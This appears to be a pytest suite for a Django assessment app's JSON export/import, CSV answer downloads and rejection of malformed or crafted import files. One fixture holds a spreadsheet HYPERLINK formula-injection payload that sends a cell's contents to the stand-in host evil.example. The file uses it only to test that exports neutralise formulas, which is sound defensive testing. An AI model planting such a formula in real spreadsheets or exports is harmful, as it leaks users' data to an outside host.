"""Data that moves: JSON export and import (service, commands, download) and the CSV of answers."""

from __future__ import annotations

import copy
import csv
import io
import json

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse

from assessments import selectors, services
from assessments.models import Answer, Assessment, Comment, ScoreSnapshot
from assessments.transfer import (
    TransferError,
    answers_csv,
    export_assessment_data,
    import_assessment_data,
)
from audit.models import Event
from plans.exports import spreadsheet_safe
from tests.factories import AssessmentFactory
from tests.pages import text_of

# Each test builds whole assessments and moves them out and back in: beyond the quick run.
pytestmark = pytest.mark.slow

UNICODE_NOTE = "Évaluation du shérif — 証拠は記録課に保管 ✓; «مرحبا» \u202eRTL\u202c; emoji 🚓"
FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def fill(assessment, user):
    """Answer every applicable question, with N/A, notes, flags and every answer type."""
    data = []
    for index, question in enumerate(assessment.applicable_questions().order_by("position")):
        note = f"{UNICODE_NOTE} ({question.code})" if index % 3 == 0 else ""
        if index == 1:
            note = FORMULA_NOTE
        if index % 7 == 5:
            data.append(
                services.AnswerInput(
                    question_id=question.pk,
                    not_applicable=True,
                    na_reason=f"No jail unit for {question.code} — «sans objet».",
                    note=note,
                    flagged=index % 2 == 0,
                )
            )
            continue
        value = ("yes", "partial", "no")[index % 3]
        if question.answer_type == "scale":
            value = str(index % 5)
        elif question.answer_type == "number":
            value = "1200"
        elif question.answer_type == "text":
            value = "+1 555 0100, ask the records unit"
        data.append(
            services.AnswerInput(
                question_id=question.pk, value=value, note=note, flagged=index % 4 == 0
            )
        )
    services.answers_save(assessment=assessment, user=user, data=data)


def answers_of(assessment) -> dict[str, tuple]:
    return {
        a.question.code: (
            a.value,
            a.not_applicable,
            a.na_reason,
            a.note,
            a.flagged,
            a.version,
            a.updated_by.username if a.updated_by else None,
            a.updated_at,
        )
        for a in Answer.objects.filter(assessment=assessment).select_related(
            "question", "updated_by"
        )
    }


def scores_of(assessment) -> dict:
    return selectors.assessment_result(Assessment.objects.get(pk=assessment.pk)).to_dict()


def round_trip(assessment, agency, user=None) -> Assessment:
    data = json.loads(json.dumps(export_assessment_data(assessment=assessment)))
    return import_assessment_data(data=data, agency=agency, user=user).assessment


@pytest.fixture
def approved(draft, preparer, command):
    fill(draft, preparer)
    services.assessment_submit(assessment=draft, user=preparer)
    return services.assessment_approve(
        assessment=draft,
        user=command,
        membership=command.membership,
        attested=True,
        flags_confirmed=True,
    )


# --- Round trips ---------------------------------------------------------------------------------


def test_a_round_trip_gives_identical_answers_and_scores(draft, preparer, agency):
    fill(draft, preparer)

    copy_ = round_trip(draft, agency)

    assert copy_.pk != draft.pk
    assert answers_of(copy_) == answers_of(draft)
    assert scores_of(copy_) == scores_of(draft)
    assert (copy_.title, copy_.models, copy_.status, copy_.revision) == (
        draft.title,
        draft.models,
        "draft",
        1,
    )
    assert copy_.questionnaire_id == draft.questionnaire_id
    assert copy_.created_by == draft.created_by
    assert copy_.created_at == draft.created_at
    notes = {a.note for a in copy_.answers.all()}
    assert any(UNICODE_NOTE in note for note in notes)
    assert FORMULA_NOTE in notes
    assert copy_.answers.filter(not_applicable=True).exists()
    assert copy_.answers.filter(flagged=True).exists()


def test_a_partial_draft_round_trips_with_its_provisional_scores(draft, preparer, agency):
    question = draft.applicable_questions().filter(answer_type="choice").first()
    services.answers_save(
        assessment=draft,
        user=preparer,
        data=[services.AnswerInput(question_id=question.pk, value="partial", flagged=True)],
    )

    copy_ = round_trip(draft, agency)

    assert answers_of(copy_) == answers_of(draft)
    assert scores_of(copy_) == scores_of(draft)
    assert scores_of(copy_)["provisional"] is True


def test_an_approved_assessment_imports_approved_with_an_equal_snapshot(approved, agency, command):
    copy_ = round_trip(approved, agency)

    assert copy_.status == Assessment.Status.APPROVED
    assert copy_.approved_by == command
    assert copy_.approved_at == approved.approved_at
    assert ScoreSnapshot.objects.filter(assessment=copy_).exists()
    assert copy_.snapshot.result == approved.snapshot.result
    assert scores_of(copy_) == scores_of(approved)
    assert answers_of(copy_) == answers_of(approved)


def test_comments_and_the_attestation_come_along(draft, preparer, command, agency, outsider):
    fill(draft, preparer)
    services.assessment_submit(assessment=draft, user=preparer)
    question = draft.applicable_questions().order_by("position").first()
    thread = services.comment_add(
        assessment=draft, question=question, user=command, body="Which policy is this?"
    )
    services.comment_add(
        assessment=draft, question=question, user=preparer, body="Policy 4.2.", reply_to=thread
    )
    services.comment_resolve(comment=thread, user=preparer)
    services.comment_add(assessment=draft, question=question, user=command, body="Still open.")
    services.assessment_approve(
        assessment=draft,
        user=command,
        membership=command.membership,
        attested=True,
        flags_confirmed=True,
    )

    copy_ = round_trip(draft, agency)
    draft.refresh_from_db()

    def threads(assessment):
        return [
            (c.question.code, c.author.username, c.body, c.reply_to.body if c.reply_to else None,
             c.resolved_by.username if c.resolved_by else None, c.created_at)
            for c in Comment.objects.filter(assessment=assessment).order_by("created_at", "pk")
        ]  # fmt: skip

    assert threads(copy_) == threads(draft)
    assert copy_.attestation == draft.attestation != ""


def test_the_activity_trail_comes_along_with_an_entry_for_the_import(draft, preparer, agency):
    fill(draft, preparer)
    services.assessment_submit(assessment=draft, user=preparer)

    copy_ = round_trip(draft, agency)

    def trail(assessment):
        return [
            (e.kind, e.actor_id, e.created_at, e.question_id, e.old, e.new, e.comment)
            for e in Event.objects.filter(assessment=assessment).order_by("created_at", "id")
        ]

    imported = trail(copy_)
    assert imported[:-1] == trail(draft)
    assert imported[-1][0] == Event.Kind.COMMENTED
    assert "Imported from an export of assessment" in imported[-1][6]
    assert copy_.status == Assessment.Status.SUBMITTED
    assert copy_.submitted_by == preparer


def test_an_imported_assessment_exports_the_same_data(approved, agency):
    first = export_assessment_data(assessment=approved)
    copy_ = round_trip(approved, agency)
    second = export_assessment_data(assessment=copy_)

    for key in ("questionnaire", "title", "models", "status", "revision", "answers", "scores"):
        assert second[key] == first[key], key
    assert second["events"][: len(first["events"])] == first["events"]


# --- People --------------------------------------------------------------------------------------


def test_people_outside_the_agency_are_kept_by_name_only(
    approved, other_agency, outsider, preparer, command
):
    copy_ = round_trip(approved, other_agency, user=outsider)

    assert copy_.agency == other_agency
    assert copy_.created_by == outsider
    assert copy_.approved_by == outsider  # the account doing the import stands in
    assert copy_.submitted_by is None
    assert not copy_.answers.filter(updated_by__isnull=False).exists()
    original_notes = sorted(approved.answers.values_list("note", flat=True))
    assert sorted(copy_.answers.values_list("note", flat=True)) == original_notes
    events = Event.objects.filter(assessment=copy_).exclude(kind=Event.Kind.COMMENTED)
    assert not events.filter(actor__isnull=False).exists()
    assert set(events.values_list("username", flat=True)) == {"command", "preparer"}
    approval = events.get(kind=Event.Kind.APPROVED)
    assert approval.username == "command"
    note = Event.objects.get(assessment=copy_, kind=Event.Kind.COMMENTED)
    assert note.actor == outsider
    assert "command, preparer" in note.comment
    assert scores_of(copy_) == scores_of(approved)


def test_the_same_username_in_another_agency_is_not_taken_for_the_same_person(
    draft, preparer, other_agency, outsider
):
    fill(draft, preparer)
    data = export_assessment_data(assessment=draft)
    for answer in data["answers"]:
        answer["updated_by"] = "other"  # a member of Sample County, not of Example County
    data["created_by"] = "other"

    with pytest.raises(TransferError) as error:
        import_assessment_data(data=data, agency=draft.agency)

    assert any("created_by: other is not a member" in p for p in error.value.problems)


def test_it_needs_an_account_when_the_creator_is_not_a_member(draft, preparer, other_agency):
    fill(draft, preparer)

    with pytest.raises(TransferError) as error:
        round_trip(draft, other_agency)

    assert error.value.problems == [
        "created_by: command is not a member of Sample County Sheriff's Office; name the account "
        "doing the import (--user) to record as having started it."
    ]
    assert Assessment.objects.count() == 1


# --- Bad files -----------------------------------------------------------------------------------


def test_it_reports_every_problem_with_its_place_and_imports_nothing(draft, preparer, agency):
    fill(draft, preparer)
    data = export_assessment_data(assessment=draft)
    data["models"] = ["JEM", "XYZ"]
    data["status"] = "finished"
    data["created_at"] = "yesterday"
    data["questionnaire"]["question_codes"].append("ZZZ-99")
    data["answers"][0]["question"] = "ZZZ-01"
    data["answers"][1]["value"] = "maybe"
    data["answers"][2].update(value="", not_applicable=True, na_reason="")
    data["answers"][3]["flagged"] = "yes"
    data["answers"][4]["note"] = "x" * (services.NOTE_MAX_LENGTH + 1)
    data["answers"].append(copy.deepcopy(data["answers"][5]))
    data["events"][0]["kind"] = "hacked"
    data["events"][1]["at"] = "2027-01-15T10:00:00"
    codes = [a["question"] for a in data["answers"]]
    before = Assessment.objects.count(), Answer.objects.count(), Event.objects.count()

    with pytest.raises(TransferError) as error:
        import_assessment_data(data=data, agency=agency)

    problems = error.value.problems
    expected = [
        "questionnaire.question_codes[",
        "models: unknown model(s) XYZ.",
        "status: must be one of approved, draft, submitted, not 'finished'.",
        "created_at: 'created_at' must be a date and time",
        "answers[0] (ZZZ-01): question ZZZ-01 is not in this questionnaire.",
        f"answers[1] ({codes[1]}): Question {codes[1]}: ",
        f"answers[2] ({codes[2]}): Question {codes[2]}: say why it is not applicable.",
        f"answers[3] ({codes[3]}): 'flagged' must be true or false, not text.",
        f"answers[4] ({codes[4]}): Question {codes[4]}: keep the note within 5000 characters",
        "is not asked for the models and phase considered.",  # WSO was dropped
        "is answered twice.",
        "events[0]: unknown kind 'hacked'.",
        "events[1]: 'at' must include its time zone",
    ]
    for start in expected:
        assert any(start in problem for problem in problems), (start, problems)
    assert len(problems) == len(expected), "\n".join(problems)
    after = Assessment.objects.count(), Answer.objects.count(), Event.objects.count()
    assert after == before


def test_it_refuses_a_questionnaire_that_is_not_loaded_here(draft, agency):
    data = export_assessment_data(assessment=draft)
    data["questionnaire"]["version"] = 99

    with pytest.raises(TransferError) as error:
        import_assessment_data(data=data, agency=agency)

    assert error.value.problems == [
        f"questionnaire: {draft.questionnaire.slug} version 99 is not loaded here. Load the same "
        "questionnaire file first (manage.py load_questionnaire FILE)."
    ]


def test_it_refuses_a_questionnaire_that_differs_from_the_exported_one(draft, agency):
    data = export_assessment_data(assessment=draft)
    data["questionnaire"]["content_hash"] = "0" * 64

    with pytest.raises(TransferError, match="content hash differs"):
        import_assessment_data(data=data, agency=agency)


def test_it_refuses_an_approved_export_whose_scores_differ(approved, agency):
    data = export_assessment_data(assessment=approved)
    data["scores"]["overall_score"] += 1
    before = Assessment.objects.count()

    with pytest.raises(TransferError, match="approved export froze overall"):
        import_assessment_data(data=data, agency=agency)

    assert Assessment.objects.count() == before


@pytest.mark.parametrize(
    "data, message",
    [
        ([], "file: must be a JSON object"),
        ({"format": "something-else", "format_version": 1}, "format: must be"),
        ({"format": "readiness-assessment", "format_version": 7}, "format_version: this"),
    ],
)
def test_it_refuses_what_is_not_an_export(data, message, agency, questionnaire):
    with pytest.raises(TransferError, match=message):
        import_assessment_data(data=data, agency=agency)


# --- Commands ------------------------------------------------------------------------------------


def test_the_commands_round_trip_through_a_file(approved, agency, tmp_path, capsys):
    path = tmp_path / "assessment.json"

    call_command("export_assessment", str(approved.pk), "--output", str(path))
    call_command("import_assessment", str(path), "--agency", agency.slug)

    copy_ = Assessment.objects.exclude(pk=approved.pk).get()
    assert answers_of(copy_) == answers_of(approved)
    assert scores_of(copy_) == scores_of(approved)
    assert copy_.status == Assessment.Status.APPROVED
    assert f"as assessment {copy_.pk}" in capsys.readouterr().out
    assert UNICODE_NOTE in path.read_text(encoding="utf-8")


def test_export_writes_json_to_standard_output(draft, preparer, capsys):
    fill(draft, preparer)

    call_command("export_assessment", str(draft.pk))

    data = json.loads(capsys.readouterr().out)
    assert data["questionnaire"]["slug"] == draft.questionnaire.slug
    assert data["agency"]["slug"] == draft.agency.slug
    assert {"question", "value", "not_applicable", "na_reason", "note", "flagged"} <= set(
        data["answers"][0]
    )
    assert {"kind", "actor", "at", "old", "new", "comment"} <= set(data["events"][0])
    assert data["events"][0]["actor"] == "command"


def test_import_lists_every_problem_and_saves_nothing(draft, agency, tmp_path):
    data = export_assessment_data(assessment=draft)
    data["title"] = ""
    data["revision"] = 0
    path = tmp_path / "bad.json"
    path.write_text(json.dumps(data), encoding="utf-8")

    with pytest.raises(CommandError) as error:
        call_command("import_assessment", str(path), "--agency", agency.slug)

    message = str(error.value)
    assert "2 problem(s), nothing was imported" in message
    assert "title: must not be empty." in message
    assert "revision: must be 1 or more." in message
    assert Assessment.objects.count() == 1


def test_import_explains_a_file_that_is_not_json(agency, tmp_path):
    path = tmp_path / "broken.json"
    path.write_text('{"format": "readiness-assessment",\n  "title": }', encoding="utf-8")

    with pytest.raises(CommandError, match=r"line 2, column 12: not valid JSON"):
        call_command("import_assessment", str(path), "--agency", agency.slug)


def test_import_names_an_unknown_agency_or_account(draft, agency, tmp_path):
    path = tmp_path / "a.json"
    call_command("export_assessment", str(draft.pk), "--output", str(path))

    with pytest.raises(CommandError, match="no agency with slug 'nowhere'"):
        call_command("import_assessment", str(path), "--agency", "nowhere")
    with pytest.raises(CommandError, match="no account with username 'ghost'"):
        call_command("import_assessment", str(path), "--agency", agency.slug, "--user", "ghost")


def test_import_into_another_agency_with_an_account_named(
    draft, preparer, other_agency, outsider, tmp_path, capsys
):
    fill(draft, preparer)
    path = tmp_path / "a.json"
    call_command("export_assessment", str(draft.pk), "--output", str(path))

    call_command(
        "import_assessment", str(path), "--agency", other_agency.slug, "--user", outsider.username
    )

    copy_ = Assessment.objects.get(agency=other_agency)
    assert scores_of(copy_) == scores_of(draft)
    assert "kept by name in the activity trail only: command, preparer" in capsys.readouterr().out


# --- Downloads -----------------------------------------------------------------------------------


def test_command_staff_download_the_json_export(approved, command, client_for, agency):
    response = client_for(command).get(reverse("assessment_export_json", args=[approved.pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="example-county-')
    assert "no-store" in response["Cache-Control"]
    data = json.loads(response.content.decode("utf-8"))
    assert data["answers"] == export_assessment_data(assessment=approved)["answers"]
    copy_ = import_assessment_data(data=data, agency=agency).assessment
    assert scores_of(copy_) == scores_of(approved)
    download = Event.objects.filter(assessment=approved, kind=Event.Kind.EXPORT_DOWNLOADED).get()
    assert download.actor == command
    assert download.new == {"revision": approved.revision, "status": "approved"}
    assert not Event.objects.filter(kind=Event.Kind.REPORT_DOWNLOADED).exists()


@pytest.mark.parametrize("name", ["assessment_export_json", "assessment_export_csv"])
def test_preparers_may_not_download_exports(name, draft, preparer, client_for):
    response = client_for(preparer).get(reverse(name, args=[draft.pk]))

    assert response.status_code == 403
    downloads = [Event.Kind.EXPORT_DOWNLOADED, Event.Kind.ANSWERS_CSV_DOWNLOADED]
    assert not Event.objects.filter(kind__in=downloads).exists()


def test_command_staff_download_the_answers_as_csv(draft, preparer, command, client_for):
    fill(draft, preparer)

    response = client_for(command).get(reverse("assessment_export_csv", args=[draft.pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].endswith('.csv"')
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == [
        "Code",
        "Step",
        "Prompt",
        "Answer",
        "N/A reason",
        "Note",
        "Flagged",
        "Changed by",
        "Changed at",
    ]
    questions = list(draft.applicable_questions().order_by("position"))
    assert [row[0] for row in rows[1:]] == [q.code for q in questions]
    by_code = {row[0]: row for row in rows[1:]}
    first = by_code[questions[0].code]
    assert first[1].startswith("1. ")
    assert first[2] == questions[0].prompt
    assert first[3] == "Yes"
    assert UNICODE_NOTE in first[5]
    assert first[6] == "Yes"
    assert first[7] == "Preparer Tester"
    assert first[8]
    assert by_code[questions[1].code][5] == "'" + FORMULA_NOTE
    na = [row for row in rows[1:] if row[3] == "Not applicable"]
    assert na and all(row[4].startswith("No jail unit") for row in na)
    texts = [row for row in rows[1:] if row[3].startswith("'+1 555")]
    assert texts, "a text answer starting with + is neutralised too"


def test_an_unanswered_question_is_marked_in_the_csv(draft):
    rows = list(csv.reader(io.StringIO(answers_csv(assessment=draft).lstrip("\ufeff"))))

    assert {row[3] for row in rows[1:]} == {"Unanswered"}
    assert {row[6] for row in rows[1:]} == {"No"}


@pytest.mark.parametrize(
    "text, safe",
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2", "'-2"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("plain = text", "plain = text"),
        ("", ""),
    ],
)
def test_spreadsheet_formulas_are_neutralised(text, safe):
    assert spreadsheet_safe(text) == safe


def test_the_overview_links_exports_for_command_staff_only(draft, preparer, command, client_for):
    json_url = reverse("assessment_export_json", args=[draft.pk])
    csv_url = reverse("assessment_export_csv", args=[draft.pk])
    url = reverse("assessment", args=[draft.pk])

    as_command = client_for(command).get(url).content.decode()
    as_preparer = client_for(preparer).get(url).content.decode()

    assert json_url in as_command and csv_url in as_command
    assert json_url not in as_preparer and csv_url not in as_preparer


def test_a_round_trip_keeps_the_phase_and_accepted_critical_not_applicable(
    questionnaire, agency, preparer, command
):
    draft = AssessmentFactory(agency=agency, created_by=command, phase="signed")
    fill(draft, preparer)
    critical_na = draft.answers.get(question__code="CAP-04")  # critical
    services.answers_save(
        assessment=draft,
        user=preparer,
        data=[
            services.AnswerInput(
                question_id=critical_na.question_id,
                not_applicable=True,
                na_reason="No officers to spare: the agency is a two-deputy office.",
                base_version=critical_na.version,
            )
        ],
    )
    services.not_applicable_acknowledge(
        assessment=draft,
        user=command,
        membership=command.membership,
        question_id=critical_na.question_id,
    )

    copy_ = round_trip(draft, agency)

    assert copy_.phase == "signed"
    accepted = copy_.answers.get(question=critical_na.question)
    assert accepted.na_acknowledged_by == command
    assert scores_of(copy_) == scores_of(draft)


def test_an_export_without_a_phase_imports_as_preparing(draft, preparer, agency):
    fill(draft, preparer)
    data = json.loads(json.dumps(export_assessment_data(assessment=draft)))
    del data["phase"]

    copy_ = import_assessment_data(data=data, agency=agency).assessment

    assert copy_.phase == "preparing"
    assert answers_of(copy_) == answers_of(draft)


def test_after_an_import_into_another_agency_the_activity_page_answers(
    draft, preparer, other_agency, outsider, client_for
):
    """The events keep the exporting agency's usernames; none is a member here."""
    fill(draft, preparer)
    data = json.loads(json.dumps(export_assessment_data(assessment=draft)))
    copy_ = import_assessment_data(data=data, agency=other_agency, user=outsider).assessment

    response = client_for(outsider).get(reverse("assessment_activity", args=[copy_.pk]))

    assert response.status_code == 200
    assert "preparer (not a member here)" in text_of(response.content.decode())


# A crafted export: each of these is refused with its place, and nothing is saved.


def crafted(draft, preparer, change) -> list[str]:
    fill(draft, preparer)
    data = json.loads(json.dumps(export_assessment_data(assessment=draft)))
    change(data)
    before = Assessment.objects.count()
    with pytest.raises(TransferError) as error:
        import_assessment_data(data=data, agency=draft.agency)
    assert Assessment.objects.count() == before
    return error.value.problems


def set_first_answer(key, value):
    def change(data):
        data["answers"][0][key] = value

    return change


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (
            lambda d: d.update(created_at="9999-12-31T23:59:59-05:00"),
            "created_at: 'created_at' must be between 1970 and 2099",
        ),
        (
            lambda d: d.update(created_at="0001-01-01T00:00:00+05:00"),
            "created_at: 'created_at' must be between 1970 and 2099",
        ),
        (lambda d: d.update(revision=2**31), "revision: the number 2147483648 is too large."),
        (
            set_first_answer("version", 2**40),
            "answers[0].version: the number 1099511627776 is too large.",
        ),
        (
            set_first_answer("note", "Binder\x00 4"),
            "answers[0].note: the text contains a NUL character.",
        ),
        (
            lambda d: d["events"][0].update(new={"title": "a\u0000b", "models": ["JEM"]}),
            "the text contains a NUL character.",
        ),
        (set_first_answer("note", "half \ud800 a pair"), "not valid Unicode (a lone surrogate)."),
        (
            lambda d: d["events"][0].update(new={"title": [1, 2], "models": ["JEM"]}),
            "'new' values must be text, numbers",
        ),
        (
            lambda d: d["events"][0].update(old={"deep": {"er": {"still": 1}}}),
            "'old' values must be text, numbers",
        ),
    ],
)
def test_crafted_values_are_refused_with_their_place(draft, preparer, change, expected):
    problems = crafted(draft, preparer, change)

    assert any(expected in problem for problem in problems), problems


def test_deep_nesting_is_refused(draft, preparer):
    def change(data):
        deep: list = []
        for _ in range(200):
            deep = [deep]
        data["answers"][0]["note"] = deep

    problems = crafted(draft, preparer, change)

    assert any("nested more than 32 levels deep" in problem for problem in problems), problems


def test_200000_deep_json_is_refused_by_the_command(agency, tmp_path):
    path = tmp_path / "deep.json"
    path.write_text("[" * 200_000 + "]" * 200_000, encoding="utf-8")

    with pytest.raises(CommandError, match="nested too deeply"):
        call_command("import_assessment", str(path), "--agency", agency.slug)


def test_malformed_frozen_scores_are_refused(approved, agency):
    data = json.loads(json.dumps(export_assessment_data(assessment=approved)))
    data["scores"]["dimensions"] = ["capacity", 3]

    with pytest.raises(TransferError) as error:
        import_assessment_data(data=data, agency=agency)

    assert "scores: not the scores an export writes (their shape is wrong)." in error.value.problems
